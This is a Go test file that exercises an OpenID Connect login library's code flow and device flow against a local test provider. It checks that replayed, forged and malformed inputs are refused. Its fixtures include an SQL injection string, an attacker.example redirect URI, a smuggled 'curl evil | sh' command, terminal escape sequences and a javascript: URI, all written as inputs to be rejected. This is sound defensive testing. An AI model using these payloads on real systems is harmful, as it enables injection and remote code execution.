package oidcflow_test

// End to end against a real OpenID provider: zitadel/oidc's op package
// with its example storage and login UI, served by httptest.

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/keystone-ng/keystone-ng/pkg/oidcflow"
	"github.com/keystone-ng/keystone-ng/pkg/oidcflow/sqlstore"
	"github.com/keystone-ng/keystone-ng/pkg/store/storetest"
	"github.com/uptrace/bun"
	"github.com/zitadel/oidc/v3/example/server/exampleop"
	"github.com/zitadel/oidc/v3/example/server/storage"
	"github.com/zitadel/oidc/v3/pkg/oidc"
	"golang.org/x/text/language"
)

const (
	callback     = "https://keystone.example/v4/federation/oidc/callback"
	userPassword = "verysecure"
)

// testOP is a running zitadel/oidc OpenID provider.
type testOP struct {
	issuer   string
	username string
	srv      *httptest.Server
}

func startOP(t *testing.T) *testOP {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	issuer := "http://" + l.Addr().String()
	clients := map[string]*storage.Client{
		"web":    storage.WebClient("web", "web-secret", callback),
		"web2":   storage.WebClient("web2", "web2-secret", callback),
		"native": storage.NativeClient("native", "http://localhost/callback"),
		"device": storage.DeviceClient("device", "device-secret"),
	}
	st := storage.NewStorageWithClients(users{}, clients)
	h := exampleop.SetupServer(issuer, st, slog.New(slog.DiscardHandler), false)
	srv := httptest.NewUnstartedServer(h)
	srv.Listener.Close()
	srv.Listener = l
	srv.Start()
	t.Cleanup(srv.Close)
	return &testOP{issuer: issuer, username: "alice", srv: srv}
}

// users is the provider's user store: one user whose id is also her
// username (the example device login uses the username as subject).
type users struct{}

var alice = &storage.User{
	ID: "alice", Username: "alice", Password: userPassword, FirstName: "Alice", LastName: "Liddell",
	Email: "alice@example.org", EmailVerified: true, PreferredLanguage: language.English,
}

func (users) GetUserByID(id string) *storage.User {
	if id == alice.ID {
		return alice
	}
	return nil
}

func (users) GetUserByUsername(name string) *storage.User {
	if name == alice.Username {
		return alice
	}
	return nil
}

func (users) ExampleClientID() string { return "service" }

func (o *testOP) provider(idp, clientID, secret string, redirects ...string) oidcflow.Provider {
	if len(redirects) == 0 {
		redirects = []string{callback}
	}
	return oidcflow.Provider{IdPID: idp, Issuer: o.issuer, ClientID: clientID, ClientSecret: secret, RedirectURIs: redirects}
}

// browser follows authURL through the provider's login form and returns
// the query of the redirect to the relying party.
func (o *testOP) browser(t *testing.T, authURL, redirectURI string) url.Values {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	var final *url.URL
	c := &http.Client{Timeout: 10 * time.Second, Jar: jar, CheckRedirect: func(req *http.Request, via []*http.Request) error {
		if strings.HasPrefix(req.URL.String(), redirectURI) {
			final = req.URL
			return http.ErrUseLastResponse
		}
		return nil
	}}
	resp, err := c.Get(authURL)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	id := resp.Request.URL.Query().Get("authRequestID")
	if id == "" {
		t.Fatalf("no login page: %s %s", resp.Status, resp.Request.URL)
	}
	resp, err = c.PostForm(o.issuer+"/login/username", url.Values{"username": {o.username}, "password": {userPassword}, "id": {id}})
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if final == nil {
		t.Fatalf("login did not redirect back: %s %s", resp.Status, body)
	}
	return final.Query()
}

type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) add(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

type env struct {
	db    *bun.DB
	store *sqlstore.Store
	clock *clock
	flow  *oidcflow.Flow
}

func newEnv(t *testing.T, mod func(*oidcflow.Config)) *env {
	t.Helper()
	b := storetest.Open(t, "sqlite")
	e := &env{db: b.DB, store: sqlstore.New(b.DB), clock: &clock{t: time.Now()}}
	cfg := oidcflow.Config{
		Store:      e.store,
		HTTPClient: loopbackClient(),
		Now:        e.clock.now,
		StateTTL:   5 * time.Minute,
		Userinfo:   true,
	}
	if mod != nil {
		mod(&cfg)
	}
	f, err := oidcflow.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	e.flow = f
	return e
}

func (e *env) rows(t *testing.T) int { return storetest.Count(t, e.db, "ng_oidc_login_state") }

func lookupOf(ps ...oidcflow.Provider) func(context.Context, string) (oidcflow.Provider, error) {
	return func(_ context.Context, id string) (oidcflow.Provider, error) {
		for _, p := range ps {
			if p.IdPID == id {
				return p, nil
			}
		}
		return oidcflow.Provider{}, errors.New("no such identity provider")
	}
}

func TestCodeFlowAgainstZitadelOP(t *testing.T) {
	op := startOP(t)
	ctx := context.Background()
	extra := json.RawMessage(`{"scope":{"project":{"name":"demo","domain":{"id":"default"}}}}`)

	t.Run("login", func(t *testing.T) {
		cases := []struct {
			name string
			p    oidcflow.Provider
		}{
			{"confidential client (client_secret_basic)", op.provider("idp-web", "web", "web-secret")},
			{"public client (PKCE only)", op.provider("idp-native", "native", "", "http://localhost/callback")},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				e := newEnv(t, nil)
				redirect := c.p.RedirectURIs[0]
				authURL, state, err := e.flow.Start(ctx, c.p, redirect, extra)
				if err != nil {
					t.Fatal(err)
				}
				q, _ := url.Parse(authURL)
				for k, want := range map[string]string{"state": state, "code_challenge_method": "S256", "redirect_uri": redirect, "response_type": "code", "client_id": c.p.ClientID} {
					if got := q.Query().Get(k); got != want {
						t.Fatalf("authorization URL %s = %q, want %q", k, got, want)
					}
				}
				if n := q.Query().Get("nonce"); len(n) != 43 || n == state {
					t.Fatalf("nonce %q", n)
				}
				if e.rows(t) != 1 {
					t.Fatal("state not stored")
				}
				back := op.browser(t, authURL, redirect)
				if back.Get("state") != state || back.Get("code") == "" {
					t.Fatalf("callback query %v", back)
				}
				res, err := e.flow.Finish(ctx, back.Get("state"), back.Get("code"), lookupOf(c.p))
				if err != nil {
					t.Fatal(err)
				}
				if res.IdPID != c.p.IdPID || res.RedirectURI != redirect || string(res.Extra) != string(extra) {
					t.Fatalf("result %+v", res)
				}
				for k, want := range map[string]any{"sub": "alice", "iss": op.issuer, "email": "alice@example.org", "given_name": "Alice"} {
					if res.Claims[k] != want {
						t.Fatalf("claim %s = %v, want %v (claims %v)", k, res.Claims[k], want, res.Claims)
					}
				}
				if e.rows(t) != 0 {
					t.Fatal("state left behind")
				}
				// Replay: the same callback again.
				if _, err := e.flow.Finish(ctx, back.Get("state"), back.Get("code"), lookupOf(c.p)); !errors.Is(err, oidcflow.ErrStateNotFound) {
					t.Fatalf("replayed state: %v", err)
				}
			})
		}
	})

	web := op.provider("idp-web", "web", "web-secret")

	// Refusals: each a typed error, and no login state left behind.
	refusals := []struct {
		name string
		// before runs between the provider's redirect and Finish; it may
		// change the state, code and provider the callback uses.
		before func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider)
		want   []error
	}{
		{"unknown state", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			*state = strings.Repeat("A", 43)
		}, []error{oidcflow.ErrStateNotFound}},
		{"malformed state", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			*state = "x' OR 1=1 --"
		}, []error{oidcflow.ErrStateNotFound}},
		{"expired state", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			e.clock.add(5*time.Minute + time.Second)
		}, []error{oidcflow.ErrStateExpired}},
		{"tampered code", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			*code += "x"
		}, []error{oidcflow.ErrTokenExchange}},
		{"empty code", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			*code = ""
		}, []error{oidcflow.ErrInvalidRequest}},
		{"nonce mismatch (stored nonce forged)", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			if _, err := e.db.ExecContext(context.Background(), "UPDATE ng_oidc_login_state SET nonce = ? WHERE id = ?", strings.Repeat("n", 43), *state); err != nil {
				t.Fatal(err)
			}
		}, []error{oidcflow.ErrIDToken, oidc.ErrNonceInvalid}},
		{"PKCE verifier mismatch (stored verifier forged)", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			if _, err := e.db.ExecContext(context.Background(), "UPDATE ng_oidc_login_state SET pkce_verifier = ? WHERE id = ?", strings.Repeat("v", 43), *state); err != nil {
				t.Fatal(err)
			}
		}, []error{oidcflow.ErrTokenExchange}},
		{"different client id at the same provider", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			p.ClientID, p.ClientSecret = "web2", "web2-secret"
		}, []error{oidcflow.ErrTokenExchange}},
		{"wrong client secret", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			p.ClientSecret = "not-the-secret"
		}, []error{oidcflow.ErrTokenExchange}},
		{"redirect URI unregistered since Start", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			p.RedirectURIs = []string{"https://keystone.example/other"}
		}, []error{oidcflow.ErrRedirectURINotAllowed}},
		{"wrong issuer (discovery claims another issuer)", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			// A discovery document that names another issuer but the same
			// endpoints: the ID token's iss no longer matches.
			fake := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				resp, err := http.Get(op.issuer + oidc.DiscoveryEndpoint)
				if err != nil {
					http.Error(w, err.Error(), 502)
					return
				}
				defer resp.Body.Close()
				var doc map[string]any
				json.NewDecoder(resp.Body).Decode(&doc)
				doc["issuer"] = "https://issuer.example"
				json.NewEncoder(w).Encode(doc)
			}))
			t.Cleanup(fake.Close)
			p.Issuer, p.DiscoveryURL = "https://issuer.example", fake.URL
		}, []error{oidcflow.ErrIDToken, oidc.ErrIssuerInvalid}},
		{"ID token algorithm not allowed", nil, []error{oidcflow.ErrIDToken, oidc.ErrSignatureUnsupportedAlg}},
		{"provider lookup fails", func(t *testing.T, e *env, state, code *string, p *oidcflow.Provider) {
			p.IdPID = "gone"
		}, nil},
	}
	for _, c := range refusals {
		t.Run("refused/"+c.name, func(t *testing.T) {
			var mod func(*oidcflow.Config)
			if c.before == nil { // the OP signs RS256: allow only ES256 at Finish
				mod = func(cfg *oidcflow.Config) { cfg.Algorithms = []string{"ES256"} }
			}
			e := newEnv(t, mod)
			authURL, state, err := e.flow.Start(ctx, web, callback, extra)
			if err != nil {
				t.Fatal(err)
			}
			back := op.browser(t, authURL, callback)
			code, p := back.Get("code"), web
			if c.before != nil {
				c.before(t, e, &state, &code, &p)
			}
			res, err := e.flow.Finish(ctx, state, code, lookupOf(p))
			if err == nil {
				t.Fatalf("accepted: %+v", res)
			}
			for _, w := range c.want {
				if !errors.Is(err, w) {
					t.Fatalf("error %v, want %v", err, w)
				}
			}
			if got := oidcflow.StatusCode(err); len(c.want) > 0 && (got < 400 || got > 499) {
				t.Fatalf("StatusCode(%v) = %d, want 4xx", err, got)
			}
			if state == back.Get("state") && e.rows(t) != 0 {
				t.Fatal("login state left behind")
			}
			// The genuine callback cannot be replayed after a refusal.
			if _, err := e.flow.Finish(ctx, back.Get("state"), back.Get("code"), lookupOf(web)); err == nil && state == back.Get("state") {
				t.Fatal("state usable after a refusal")
			}
		})
	}

	t.Run("start refusals", func(t *testing.T) {
		e := newEnv(t, nil)
		cases := []struct {
			name     string
			p        oidcflow.Provider
			redirect string
			extra    json.RawMessage
			want     error
		}{
			{"redirect URI not registered", web, "https://attacker.example/cb", nil, oidcflow.ErrRedirectURINotAllowed},
			{"redirect URI prefix only", web, callback + "/../evil", nil, oidcflow.ErrRedirectURINotAllowed},
			{"redirect URI differs in case", web, strings.ToUpper(callback), nil, oidcflow.ErrRedirectURINotAllowed},
			{"empty redirect URI", web, "", nil, oidcflow.ErrRedirectURINotAllowed},
			{"extra not JSON", web, callback, json.RawMessage("{"), oidcflow.ErrInvalidRequest},
			{"no client id", oidcflow.Provider{IdPID: "x", Issuer: op.issuer, RedirectURIs: []string{callback}}, callback, nil, oidcflow.ErrInvalidProvider},
			{"HS256 without a secret", oidcflow.Provider{IdPID: "x", Issuer: op.issuer, ClientID: "native", AllowHS256: true, RedirectURIs: []string{callback}}, callback, nil, oidcflow.ErrInvalidProvider},
			{"unreachable provider", oidcflow.Provider{IdPID: "x", Issuer: "http://127.0.0.1:1", ClientID: "c", RedirectURIs: []string{callback}}, callback, nil, oidcflow.ErrProviderUnavailable},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				if _, _, err := e.flow.Start(ctx, c.p, c.redirect, c.extra); !errors.Is(err, c.want) {
					t.Fatalf("Start: %v, want %v", err, c.want)
				}
				if e.rows(t) != 0 {
					t.Fatal("state stored for a refused start")
				}
			})
		}
		if got := oidcflow.StatusCode(oidcflow.ErrRedirectURINotAllowed); got != http.StatusBadRequest {
			t.Fatalf("redirect URI error maps to %d", got)
		}
	})

	// Finish's checks run after the state is taken and before the code
	// goes to the token endpoint: a refusal consumes the state and never
	// reaches the identity provider (issue 14, finding 5).
	t.Run("check hook", func(t *testing.T) {
		for _, c := range []struct {
			name   string
			checks []oidcflow.Check
			want   error
		}{
			{"refused", []oidcflow.Check{func(json.RawMessage) error { return errors.New("cookie does not match") }}, oidcflow.ErrLoginBinding},
			{"second check refuses", []oidcflow.Check{nil, func(json.RawMessage) error { return nil }, func(json.RawMessage) error { return errors.New("no") }}, oidcflow.ErrLoginBinding},
			{"accepted", []oidcflow.Check{func(x json.RawMessage) error {
				if string(x) != string(extra) {
					return errors.New("check saw " + string(x))
				}
				return nil
			}}, nil},
		} {
			t.Run(c.name, func(t *testing.T) {
				posts := &countingTransport{}
				e := newEnv(t, func(cfg *oidcflow.Config) { cfg.HTTPClient = &http.Client{Timeout: 5 * time.Second, Transport: posts} })
				authURL, state, err := e.flow.Start(ctx, web, callback, extra)
				if err != nil {
					t.Fatal(err)
				}
				back := op.browser(t, authURL, callback)
				res, err := e.flow.Finish(ctx, state, back.Get("code"), lookupOf(web), c.checks...)
				if c.want == nil {
					if err != nil || res.Claims["sub"] != "alice" || posts.n() != 1 {
						t.Fatalf("Finish = %+v, %v; %d token requests", res, err, posts.n())
					}
					return
				}
				if !errors.Is(err, c.want) || oidcflow.StatusCode(err) != http.StatusUnauthorized {
					t.Fatalf("Finish: %v (status %d), want %v and 401", err, oidcflow.StatusCode(err), c.want)
				}
				if posts.n() != 0 {
					t.Fatalf("the token endpoint was called %d times after a refused check", posts.n())
				}
				if e.rows(t) != 0 {
					t.Fatal("login state left behind")
				}
				if _, err := e.flow.Finish(ctx, state, back.Get("code"), lookupOf(web)); !errors.Is(err, oidcflow.ErrStateNotFound) {
					t.Fatalf("state usable after a refused check: %v", err)
				}
			})
		}
	})

	t.Run("two instances race on one callback", func(t *testing.T) {
		e := newEnv(t, nil)
		other, err := oidcflow.New(oidcflow.Config{Store: e.store, HTTPClient: loopbackClient(), Userinfo: true})
		if err != nil {
			t.Fatal(err)
		}
		authURL, _, err := e.flow.Start(ctx, web, callback, nil)
		if err != nil {
			t.Fatal(err)
		}
		back := op.browser(t, authURL, callback)
		var wg sync.WaitGroup
		errs := make([]error, 2)
		for i, f := range []*oidcflow.Flow{e.flow, other} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				_, errs[i] = f.Finish(ctx, back.Get("state"), back.Get("code"), lookupOf(web))
			}()
		}
		wg.Wait()
		if (errs[0] == nil) == (errs[1] == nil) {
			t.Fatalf("want exactly one success: %v / %v", errs[0], errs[1])
		}
	})
}

func TestDeviceFlowAgainstZitadelOP(t *testing.T) {
	op := startOP(t)
	ctx := context.Background()
	dev := op.provider("idp-dev", "device", "device-secret")
	lookup := lookupOf(dev)

	approve := func(t *testing.T, userCode, action string) {
		t.Helper()
		jar, _ := cookiejar.New(nil)
		c := &http.Client{Jar: jar, Timeout: 10 * time.Second}
		resp, err := c.PostForm(op.issuer+"/device/login", url.Values{"user_code": {userCode}, "username": {op.username}, "password": {userPassword}})
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		resp, err = c.Get(op.issuer + "/device/confirm?action=" + action)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !strings.Contains(string(body), "Device authorization "+action) {
			t.Fatalf("confirm: %s", body)
		}
	}

	cases := []struct {
		name   string
		action string // "allowed", "denied"
		want   error
	}{
		{"approved", "allowed", nil},
		{"denied", "denied", oidcflow.ErrAccessDenied},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, nil)
			ds, err := e.flow.StartDevice(ctx, dev, json.RawMessage(`{"scope":"unscoped"}`))
			if err != nil {
				t.Fatal(err)
			}
			if !oidcflow.ValidID(ds.DeviceCode) || ds.UserCode == "" || ds.VerificationURI == "" || ds.Interval < 5 || ds.ExpiresIn <= 0 {
				t.Fatalf("device start %+v", ds)
			}
			// Not yet approved.
			_, err = e.flow.PollDevice(ctx, ds.DeviceCode, lookup)
			var pe *oidcflow.PollError
			if !errors.Is(err, oidcflow.ErrAuthorizationPending) || !errors.As(err, &pe) || pe.Interval != ds.Interval {
				t.Fatalf("first poll: %v", err)
			}
			// Polling again at once does not reach the provider.
			if _, err := e.flow.PollDevice(ctx, ds.DeviceCode, lookup); !errors.Is(err, oidcflow.ErrAuthorizationPending) {
				t.Fatalf("early poll: %v", err)
			}
			approve(t, ds.UserCode, c.action)
			e.clock.add(time.Duration(ds.Interval) * time.Second)
			res, err := e.flow.PollDevice(ctx, ds.DeviceCode, lookup)
			if c.want != nil {
				if !errors.Is(err, c.want) {
					t.Fatalf("poll: %v, want %v", err, c.want)
				}
			} else {
				if err != nil {
					t.Fatal(err)
				}
				if res.IdPID != "idp-dev" || res.Claims["sub"] != "alice" || res.Claims["email"] != "alice@example.org" || string(res.Extra) != `{"scope":"unscoped"}` {
					t.Fatalf("result %+v", res)
				}
			}
			if e.rows(t) != 0 {
				t.Fatal("device state left behind")
			}
			if _, err := e.flow.PollDevice(ctx, ds.DeviceCode, lookup); !errors.Is(err, oidcflow.ErrStateNotFound) {
				t.Fatalf("poll after the end: %v", err)
			}
		})
	}

	t.Run("unsupported", func(t *testing.T) {
		e := newEnv(t, nil)
		fake := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			json.NewEncoder(w).Encode(map[string]any{"issuer": "https://no-device.example", "authorization_endpoint": "https://no-device.example/auth", "token_endpoint": "https://no-device.example/token", "jwks_uri": "https://no-device.example/keys"})
		}))
		defer fake.Close()
		p := oidcflow.Provider{IdPID: "nd", Issuer: "https://no-device.example", DiscoveryURL: fake.URL, ClientID: "c"}
		if _, err := e.flow.StartDevice(ctx, p, nil); !errors.Is(err, oidcflow.ErrDeviceUnsupported) {
			t.Fatalf("StartDevice: %v", err)
		}
		if e.rows(t) != 0 {
			t.Fatal("state stored")
		}
	})

	// What the provider wants shown to a person must be safe to print in
	// a terminal (issue 14, finding 8): a response carrying escape
	// sequences or a non-https URL is refused and nothing is stored.
	t.Run("unsafe display fields", func(t *testing.T) {
		for _, c := range []struct {
			name string
			resp map[string]any
		}{
			{"escape in user_code", map[string]any{"user_code": "\x1b]0;pwned\x07WDJB", "verification_uri": "https://idp.example/device"}},
			{"newline in user_code", map[string]any{"user_code": "WDJB\nRun: curl evil | sh", "verification_uri": "https://idp.example/device"}},
			{"http verification_uri", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "http://idp.example/device"}},
			{"CSI in verification_uri", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/\x1b[2Jdevice"}},
			{"javascript verification_uri_complete", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/device", "verification_uri_complete": "javascript:alert(1)"}},
		} {
			t.Run(c.name, func(t *testing.T) {
				e := newEnv(t, nil)
				var fake *httptest.Server
				fake = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					w.Header().Set("Content-Type", "application/json")
					if r.URL.Path == "/device" {
						body := map[string]any{"device_code": "dc", "expires_in": 600, "interval": 5}
						for k, v := range c.resp {
							body[k] = v
						}
						json.NewEncoder(w).Encode(body)
						return
					}
					json.NewEncoder(w).Encode(map[string]any{"issuer": "https://dev.example", "authorization_endpoint": "https://dev.example/auth",
						"token_endpoint": fake.URL + "/token", "jwks_uri": fake.URL + "/keys", "device_authorization_endpoint": fake.URL + "/device"})
				}))
				defer fake.Close()
				p := oidcflow.Provider{IdPID: "dev", Issuer: "https://dev.example", DiscoveryURL: fake.URL, ClientID: "c", ClientSecret: "s"}
				ds, err := e.flow.StartDevice(ctx, p, nil)
				if !errors.Is(err, oidcflow.ErrProviderUnavailable) {
					t.Fatalf("StartDevice = %+v, %v; want ErrProviderUnavailable", ds, err)
				}
				if e.rows(t) != 0 {
					t.Fatal("state stored")
				}
			})
		}
	})

	t.Run("expired", func(t *testing.T) {
		e := newEnv(t, nil)
		ds, err := e.flow.StartDevice(ctx, dev, nil)
		if err != nil {
			t.Fatal(err)
		}
		e.clock.add(time.Duration(ds.ExpiresIn)*time.Second + time.Second)
		if _, err := e.flow.PollDevice(ctx, ds.DeviceCode, lookup); !errors.Is(err, oidcflow.ErrExpired) {
			t.Fatalf("poll: %v", err)
		}
		if e.rows(t) != 0 {
			t.Fatal("device state left behind")
		}
	})

	t.Run("a code-flow state is not a device code", func(t *testing.T) {
		e := newEnv(t, nil)
		_, state, err := e.flow.Start(ctx, op.provider("idp-web", "web", "web-secret"), callback, nil)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := e.flow.PollDevice(ctx, state, lookup); !errors.Is(err, oidcflow.ErrStateNotFound) {
			t.Fatalf("poll: %v", err)
		}
	})
}

// countingTransport counts the POST requests (token endpoint calls) a
// Flow makes; discovery, JWKS and userinfo are GETs.
type countingTransport struct {
	mu    sync.Mutex
	posts int
}

func (c *countingTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method == http.MethodPost {
		c.mu.Lock()
		c.posts++
		c.mu.Unlock()
	}
	return http.DefaultTransport.RoundTrip(r)
}

func (c *countingTransport) n() int { c.mu.Lock(); defer c.mu.Unlock(); return c.posts }
